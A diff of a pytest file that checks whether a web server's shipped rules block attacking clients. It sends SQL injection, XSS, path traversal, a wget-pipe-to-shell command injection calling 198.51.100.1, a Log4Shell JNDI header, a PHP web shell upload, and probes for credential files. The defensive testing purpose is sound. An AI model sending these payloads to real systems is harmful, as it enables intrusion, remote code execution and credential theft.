@@ -2,14 +2,19 @@
 at the limit."""
 import pytest
 
+from harness.client import WORDS
+
 LIMIT = 12
 CATEGORIES = ("unauthorized_access vuln_scan sql_injection path_traversal xss code_injection resource_exhaustion auth_failure malware_upload "
               "info_leak bad_method bot_proxy bad_request").split()
 
+PASSWORD = object()  # another one each time
 BROWSER = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0"}
 PROBES = ["/wp-login.php", "/phpmyadmin/", "/admin/config.php", "/xmlrpc.php", "/cgi-bin/test.cgi", "/manager/html", "/solr/admin/",
-          "/boaform/admin/formLogin", "/HNAP1", "/owa/auth/logon.aspx", "/actuator/health", "/struts2/index.action"]
-LEAKS = ["/.env", "/.git/config", "/backup.sql", "/wp-config.php.bak"]
+          "/boaform/admin/formLogin", "/HNAP1", "/owa/auth/logon.aspx", "/actuator/health", "/struts2/index.action", "/pma/",
+          "/mysql/index.php", "/wp-content/plugins/hellopress/wp_filemanager.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+          "/jenkins/login", "/ecp/Current/exporttool/", "/cgi-bin/luci", "/setup.cgi", "/joomla/administrator/", "/invoker/JMXInvokerServlet"]
+LEAKS = ["/.env", "/.git/config", "/backup.sql", "/wp-config.php.bak", "/.aws/credentials", "/.svn/entries", "/.ssh/id_rsa", "/db.sql"]
 
 
 def send(client, method, path, headers=None, body=b""):
@@ -17,26 +22,29 @@ def send(client, method, path, headers=None, body=b""):
     return client.request(method, path, {**BROWSER, **(headers or {})}, body).status
 
 
-# Kind, category, and what is sent again and again: (method, path, headers, body) with {n} for a number.
+# Kind, category, and what is sent in turn: (method, path, headers, body) with {n} for a number and {word} for a word of its own each time.
 KINDS = [
-    ("unauthorised access", "unauthorized_access", [("GET", "/denied/report-{n}.html", None, b"")]),
+    ("unauthorised access", "unauthorized_access", [("GET", "/denied/{word}.html", None, b"")]),
     ("vulnerability scan", "vuln_scan", [("GET", path, None, b"") for path in PROBES]),
     ("SQL injection", "sql_injection", [
-        ("GET", "/page.html?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-", None, b""),
-        ("GET", "/page.html?id=1%27%20OR%20%271%27%3D%271", None, b"")]),
-    ("cross-site scripting", "xss", [("GET", "/page.html?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", None, b"")]),
-    ("path traversal", "path_traversal", [("GET", "/page.html?file=../../../../etc/passwd", None, b""),
-                                          ("GET", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", None, b"")]),
-    ("code injection", "code_injection", [("GET", "/page.html?cmd=;wget%20http://198.51.100.1/x.sh%20-O-|sh", None, b""),
+        ("GET", "/page.html?id=1%27%20UNION%20SELECT%20user,{word}%20FROM%20users--%20-", None, b""),
+        ("GET", "/page.html?id=1%27%20OR%20%27{n}%27%3D%27{n}", None, b"")]),
+    ("cross-site scripting", "xss", [("GET", "/page.html?q=%3Cscript%3Ealert(document.{word})%3C/script%3E", None, b"")]),
+    ("path traversal", "path_traversal", [("GET", "/page.html?file={word}/../../../../../etc/passwd", None, b""),
+                                          ("GET", "/%2e%2e/%2e%2e/%2e%2e/etc/{word}", None, b"")]),
+    ("code injection", "code_injection", [("GET", "/page.html?cmd=;wget%20http://198.51.100.1/{word}.sh%20-O-|sh", None, b""),
                                           ("GET", "/page.html", {"X-Api-Version": "${jndi:ldap://198.51.100.1/a}"}, b"")]),
-    ("brute force", "auth_failure", [("GET", "/private/page.html", {"Authorization": "Basic YWxpY2U6d3Jvbmc="}, b"")]),
-    ("malware upload", "malware_upload", [("PUT", "/uploads/shell.php", None, b"<?php system($_GET['c']); ?>"),
-                                          ("POST", "/c99.php?cmd=id", None, b"x=1")]),
+    ("brute force", "auth_failure", [("GET", "/private/page.html", PASSWORD, b"")]),
+    ("malware upload", "malware_upload", [("PUT", "/uploads/{word}.php", None, b"<?php system($_GET['c']); ?>"),
+                                          ("POST", "/c99.php?cmd={word}", None, b"x=1")]),
     ("leaked configuration", "info_leak", [("GET", path, None, b"") for path in LEAKS]),
-    ("illegal method", "bad_method", [("FOO", "/page.html", None, b""), ("TRACE", "/", None, b"")]),
-    ("proxies and bots", "bot_proxy", [("GET", "http://www.example.net/", {"Host": "www.example.net"}, b""),
-                                       ("CONNECT", "www.example.net:443", {"Host": "www.example.net:443"}, b"")]),
+    ("illegal method", "bad_method", [("FOO", "/{word}.html", None, b""), ("TRACE", "/{word}", None, b"")]),
+    ("proxies and bots", "bot_proxy", [("GET", "http://www.example.net/{word}", {"Host": "www.example.net"}, b""),
+                                       ("CONNECT", "{word}.example.net:443", {"Host": "www.example.net:443"}, b"")]),
 ]
+
+# Which targets are new is told by a hash of few bits (model/known_targets.h): some more than the limit may be needed.
+MOST = 2 * LIMIT + 6
 
 ANNOUNCED = r"AH01630|AH00128|AH00130|AH01617|AH00135|AH10244|AH00026|AH01276|AH01264|AH01265"
 
@@ -70,9 +78,12 @@ class TestKinds(WithShippedRules):
         sent = 0
         while not server.status.blocked(client.address):
             method, path, headers, body = requests[sent % len(requests)]
-            send(client, method, path.format(n=sent), headers, body)
+            if headers is PASSWORD:
+                client.log_in(password=WORDS[sent])
+            else:
+                send(client, method, path.format(n=sent, word=WORDS[sent]), headers, body)
             sent += 1
-            assert sent <= LIMIT + 1, f"{server.status.client(client.address)}"
+            assert sent <= MOST, f"{server.status.client(client.address)}"
         assert send(client, "GET", "/page.html") == 403
         assert server.status.category(category) >= before + 1
         incident = server.status.incidents(client=client.address, kind="block")[0]
@@ -83,7 +94,7 @@ class TestKinds(WithShippedRules):
     def test_brute_force_over_many_users(self, client, log):
         log.expect("AH01618")
         log.expect_blocked(client)
-        statuses = [client.log_in(user=f"user{i}").status for i in range(LIMIT + 4)]
+        statuses = [client.log_in(user=f"user{i}").status for i in range(MOST)]
         assert 403 in statuses
 
     # A visitor who does nothing wrong, and what browsers ask for by themselves.
